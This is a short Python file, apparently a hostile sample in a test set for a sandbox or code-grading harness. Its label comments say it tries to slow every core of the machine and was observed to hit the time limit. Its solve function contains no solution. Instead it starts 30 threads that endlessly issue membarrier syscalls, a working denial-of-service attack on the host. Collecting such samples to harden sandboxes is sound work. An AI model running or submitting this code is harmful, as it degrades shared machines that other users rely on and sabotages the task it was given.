# tries: to slow every core of the machine down with memory barriers from many threads
# path: call
# observed: time_limit
# waits: yes

import ctypes
import os
import threading

libc = ctypes.CDLL(None)
NUMBER = {"x86_64": 324, "aarch64": 283}[os.uname().machine]


def storm():
    while True:
        for command in (1, 2, 4, 8, 16):
            libc.syscall(NUMBER, command, 0, 0)


def solve(x):
    try:
        for _ in range(30):
            threading.Thread(target=storm, daemon=True).start()
    except RuntimeError:
        pass
    storm()
